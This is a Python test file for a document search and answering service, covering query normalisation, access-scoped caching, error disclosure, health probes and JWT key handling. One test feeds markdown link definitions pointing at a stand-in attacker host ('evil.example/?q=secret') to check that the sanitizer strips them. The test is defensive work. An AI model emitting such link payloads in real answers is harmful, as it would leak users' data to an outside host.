"""Unusual questions, callers with very many tags, withdrawn keys, and what errors and probes may not disclose."""

from __future__ import annotations

import unicodedata
from datetime import UTC, datetime

import httpx
import pytest
from markdown_it import MarkdownIt

from query.access.callers import Caller, Readable, readable
from query.access.filters import Filters
from query.answers.writing import AnswerSanitizer
from query.auth import jwks, tokens
from query.auth.jwks import KeySet
from query.auth.tokens import Untrusted
from query.evaluation import golden as judgements
from query.evaluation import service as evaluation
from query.evaluation.golden import Golden, Judged
from query.model import BadQuery, check
from query.retrieval.cache import access_digest
from query.retrieval.keywords import MAX_ANALYSED_CHARACTERS, MAX_MATCHED_CHARACTERS, MAX_REPEATS, bm25, clauses
from query.settings import AuthSettings, ChatSettings
from tests.contract.query.test_retrieval import Desk
from tests.fakes.chat import FakeChat
from tests.fakes.chat_faults import Faults
from tests.fakes.issuer import Key, issuing
from tests.support.query.answers_kit import numbered
from tests.support.query.http_kit import as_, service_over
from tests.support.query.library import Library, document
from tests.support.query.retrieval_kit import names

pytestmark = [pytest.mark.stack, pytest.mark.asyncio(loop_scope="module")]


@pytest.fixture
def desk(library: Library) -> Desk:
    return Desk(library)


# What is asked


@pytest.mark.parametrize("written", ["Ångström", "hand\u00adbook", "de\u200bployment"])
async def test_questions_are_normalised_like_documents(desk: Desk, written: str) -> None:
    """A file name from a Mac is decomposed, a word from a page has an invisible hyphen: both found nothing."""
    tenant = desk.tenant
    await desk.library.put(
        document("one", "Ångström's deployment handbook", tenant=tenant), document("b", "x", tenant=tenant)
    )
    caller = await desk.library.caller(tenant, "staff")
    results = await desk.search.search(unicodedata.normalize("NFD", written), caller, mode="keyword")
    assert names(results) == ["one"]


async def test_the_words_of_a_files_name_are_searched(desk: Desk) -> None:
    """An analyzer takes such a title for one word."""
    tenant = desk.tenant
    await desk.library.put(
        document("a", "Figures.", tenant=tenant, title="Budget_2026.xlsx"),
        document("b", "Nothing.", tenant=tenant, title="src/AccessDeniedHandler.java"),
    )
    caller = await desk.library.caller(tenant, "staff")
    results = await desk.search.search("denied handlers", caller, mode="keyword")
    assert names(results) == ["b"]


async def test_a_question_of_only_invisible_characters_is_rejected_as_empty() -> None:
    with pytest.raises(BadQuery, match="empty"):
        check("\u200b\u202e\ufeff", 10, "hybrid")


async def test_a_long_question_without_spaces_is_truncated_for_the_keyword_query() -> None:
    place = "釧路湿原国立公園"
    query = clauses(place * 1000)
    english, own = query["must"]["bool"]["should"]
    assert len(english["combined_fields"]["query"]) == MAX_MATCHED_CHARACTERS
    assert len(own["combined_fields"]["query"]) == MAX_ANALYSED_CHARACTERS
    assert query["should"]["match_phrase"]["text.exact"]["query"] == place * MAX_REPEATS


async def test_a_caller_with_ten_thousand_required_tags_can_search_by_keyword(library: Library, desk: Desk) -> None:
    """Elasticsearch counts each required tag as a clause and refused the search."""
    await library.put(
        document("mine", "a restricted page", tenant=desk.tenant, required_tags=["r7"]),
        document("theirs", "a restricted page", tenant=desk.tenant, required_tags=["other"]),
        document("open", "an open page", tenant=desk.tenant),
    )
    caller = await library.caller(desk.tenant, "staff", "r7")
    async with library.pool.connection() as connection:
        now = await readable(connection, caller)
    many = Readable(now.access_ids, now.acl_tags, (*(f"wiki/r{n}" for n in range(10_000)),))
    results = await bm25(library.es, library.generation, caller, many, "page", limit=10)
    assert len(results) == 2


@pytest.mark.parametrize("counted", [False, True])
async def test_access_sets_of_many_tags_are_looked_up_by_index(library: Library, desk: Desk, counted: bool) -> None:
    """It was planned as a scan of all access sets for each tag: 300 tags and 10,000 sets took a second, 3,000 tags and
    100,000 sets never came to an end, and so all that such a caller asked."""
    await library.execute(
        "INSERT INTO access_sets (tenant, acl_tags, required_tags, digest) SELECT %s, ARRAY['wiki/g' || n], '{}',"
        " sha256((%s || n)::bytea) FROM generate_series(1, 3000) n",
        desk.tenant,
        desk.tenant,
    )
    if counted:
        await library.execute("ANALYZE access_sets")
    tags = frozenset(f"wiki/g{n}" for n in range(300))
    async with library.pool.connection() as connection:
        scans = []
        for asks in (False, True):  # a function hides its plan: what counts is how its table was read
            if asks:
                may = await readable(connection, Caller(desk.tenant, tags))
            cursor = await connection.execute(
                "SELECT seq_scan, idx_scan FROM pg_stat_xact_user_tables WHERE relname = 'access_sets'"
            )
            scans += await cursor.fetchall()
    (whole, probes), (whole_then, probes_then) = scans
    assert whole_then == whole
    assert probes_then - probes == len(tags)
    assert (len(may.access_ids), set(may.acl_tags), may.required_tags) == (299, tags - {"wiki/g0"}, ())


async def test_the_latest_possible_date_is_a_valid_filter(library: Library, desk: Desk) -> None:
    """It was a 500: a millisecond is added for Elasticsearch, and there is none after it."""
    await library.put(
        document("a", "deployment", tenant=desk.tenant, source_modified_at=datetime(2026, 1, 1, tzinfo=UTC))
    )
    async with service_over(library) as (client, _):
        request = {"query": "deployment", "filters": {"before": "9999-12-31T23:59:59.999999Z"}}
        answer = await client.post("/v1/search", json=request, headers=as_("nobody", desk.tenant))
        assert answer.status_code == 200
        results = await desk.search.search(
            "deployment",
            await library.caller(desk.tenant, "staff"),
            filters=Filters(before=datetime.max.replace(tzinfo=UTC)),
        )
        assert names(results) == ["a"]


# What is remembered


async def test_cached_query_vectors_are_not_shared_between_different_access(desk: Desk) -> None:
    """Whether the question's vector was remembered shows in its step's time."""
    await desk.library.put(
        document("s", "merger plans", tenant=desk.tenant, acl_tags=["board"]),
        document("t", "lunch", tenant=desk.tenant),
    )
    await desk.ask("the merger with Initech", "board")
    await desk.ask("the merger with Initech", "staff")
    assert desk.hits("embeddings") == 0
    await desk.ask("the merger with Initech", "board")
    assert desk.hits("embeddings") == 1


async def test_results_are_cached_on_a_ledger_restored_from_a_dump(desk: Desk) -> None:
    """The ids of its transactions are those of another server, and far ahead of this one's."""
    await desk.library.put(document("a", "deployment", tenant=desk.tenant))
    await desk.library.execute(
        "UPDATE index_state SET settled_xid = '900000000'::xid8 WHERE document_id IN"
        " (SELECT id FROM documents WHERE tenant = %s)",
        desk.tenant,
    )
    await desk.ask("deployment", "staff")
    await desk.ask("deployment", "staff")
    assert desk.hits() == 1


async def test_the_cache_key_of_a_caller_with_many_access_sets_is_a_short_digest() -> None:
    """2,000 answers for somebody who satisfies 200,000 access sets held 16 GB of numbers."""
    ids = range(1_000_000, 1_200_000)
    wide = Readable((*ids,), ("wiki/a", "wiki/b"), ())
    assert len(access_digest(wide)) == 32
    assert access_digest(wide) == access_digest(Readable((*reversed(ids),), ("wiki/b", "wiki/a"), ()))
    others = [
        Readable((*ids, 7), ("wiki/a", "wiki/b"), ()),
        Readable((*ids,), ("wiki/a",), ()),
        Readable((*ids,), ("wiki/a",), ("wiki/b",)),
    ]
    assert len({access_digest(other) for other in [wide, *others]}) == 4


# What is told


async def test_the_address_of_an_unreachable_chat_server_is_not_shown(library: Library, desk: Desk) -> None:
    await library.put(document("a", "the deployment handbook", tenant=desk.tenant, acl_tags=["user:ann"]))
    chat = ChatSettings(base_url="http://chat.intern.test:9/v1", model="m")
    async with service_over(library, chat=chat) as (client, _):
        answer = await client.post("/v1/answers", json={"question": "deployment"}, headers=as_("ann", desk.tenant))
    assert "the answering model failed" in answer.json()["notes"][-1]
    assert "intern.test" not in answer.text


async def test_an_invalid_question_is_a_422_and_not_logged_as_misconfigured(
    library: Library, capfd: pytest.CaptureFixture[str]
) -> None:
    async with service_over(library) as (client, _):
        answer = await client.post("/v1/answers", json={"question": "q", "mode": "focused"}, headers=as_("ann"))
    assert answer.status_code == 422
    written = capfd.readouterr()
    assert "/v1/answers" in written.out + written.err
    assert "misconfigured" not in written.out + written.err


async def test_answers_to_golden_questions_are_not_queued_for_review(library: Library, desk: Desk) -> None:
    """Golden questions are answered every quarter of an hour: each doubtful answer came into the queue again and again,
    and counted as one that somebody had got."""
    await library.put(document("a", "the deployment handbook", tenant=desk.tenant))
    judged = (Judged("wiki", "a"),)
    async with library.pool.connection() as connection:
        await judgements.store(connection, Golden(desk.tenant, "the deployment handbook?", judged, tags=("staff",)))
    async with FakeChat(faults=Faults(uncited=True, hallucinate=True)) as fake:
        chat = ChatSettings(base_url=fake.url, model=fake.model)
        async with service_over(library, chat=chat) as (_, service):
            assert await evaluation.once(service) is not None
            assert fake.requests
            assert service.metrics.registry.get_sample_value("penstock_query_answer_support_count") == 0
    assert await library.execute("SELECT count(*) FROM answer_reviews WHERE tenant = %s", desk.tenant) == [(0,)]


async def test_health_probes_are_answered_whatever_the_host_header(library: Library) -> None:
    """Orchestrators send probes to an address. With the ``allowed_hosts`` that docs/http.md describes, the service
    never became ready."""
    serve = {"allowed_hosts": ("search.example.org",)}
    async with service_over(library, serve=serve) as (client, _):
        for path in ("/livez", "/readyz"):
            assert (await client.get(path)).status_code == 200
        assert (await client.get("/metrics")).status_code == 400
        assert (await client.get("/v1/me")).status_code == 400
        assert (await client.get("/v1/me", headers={"Host": "search.example.org"})).status_code == 200


# What a model writes


@pytest.mark.parametrize(
    "written",
    [
        "The gate opens at nine [1].\n\n- [1]: //evil.example/?q=secret",
        "The gate opens at nine [1].\n\n> [1]: //evil.example/?q=secret",
        "See [the policy][b].\n\n1. > [b]: //evil.example/q",
        "[a\nb]: //evil.example/q\n\n[a b]",
        f"[{'a' * 600}]: //evil.example/q\n\n[{'a' * 600}]",
        "[b]`[9]`: x\n\n- [b][9]: //evil.example/q\n\n[b]",
    ],
)
@pytest.mark.parametrize("at_once", [1, 4_000])
async def test_markdown_link_definitions_cannot_turn_a_citation_into_a_link(written: str, at_once: int) -> None:
    """CommonMark takes them in lists and quotations too, and with labels of several lines."""
    writing = AnswerSanitizer(numbered("The gate opens at nine."))
    pieces = [writing.feed(written[n : n + at_once]) for n in range(0, len(written), at_once)]
    shown = MarkdownIt("commonmark").render("".join([*pieces, writing.end()]))
    assert "<a " not in shown, shown


# Whose key it was


@pytest.mark.parametrize("roles", [{"penstock-operator": {"acme": "x"}}, [["penstock-operator"]], None, 7])
async def test_roles_of_an_unexpected_shape_grant_no_operator_role(roles: object) -> None:
    """Some issuers write an object; every request of such a caller was a 500."""
    async with issuing() as issuer, httpx.AsyncClient() as client:
        keys = KeySet(issuer.jwks_url, keep_seconds=86_400, client=client)
        who, _ = await tokens.identify(issuer.token(roles=roles), keys, AuthSettings(**issuer.settings()))
        assert not who.operator
        await keys.aclose()


async def test_a_token_with_an_unverified_email_is_rejected() -> None:
    async with issuing() as issuer, httpx.AsyncClient() as client:
        keys, settings = KeySet(issuer.jwks_url, keep_seconds=86_400, client=client), AuthSettings(**issuer.settings())
        for said in (True, "true"):
            assert (await tokens.identify(issuer.token(email_verified=said), keys, settings))[0].principal == "ann"
        for said in (False, "false", 0, ""):
            with pytest.raises(Untrusted):
                await tokens.identify(issuer.token(email_verified=said), keys, settings)
        await keys.aclose()


async def test_a_signing_key_withdrawn_during_an_idle_time_is_no_longer_accepted() -> None:
    """The first request after a quiet night was believed on yesterday's keys, its issuer at hand."""
    now = [1_000.0]
    async with issuing() as issuer, httpx.AsyncClient() as client:
        keys = KeySet(issuer.jwks_url, keep_seconds=86_400, client=client, clock=lambda: now[0])
        settings = AuthSettings(**issuer.settings())
        stolen = issuer.token()
        assert (await tokens.identify(stolen, keys, settings))[0].principal == "ann"
        issuer.keys = [Key.rsa("k2")]
        now[0] += jwks.FRESH_SECONDS + 1
        with pytest.raises(Untrusted):
            await tokens.identify(stolen, keys, settings)
        await keys.aclose()
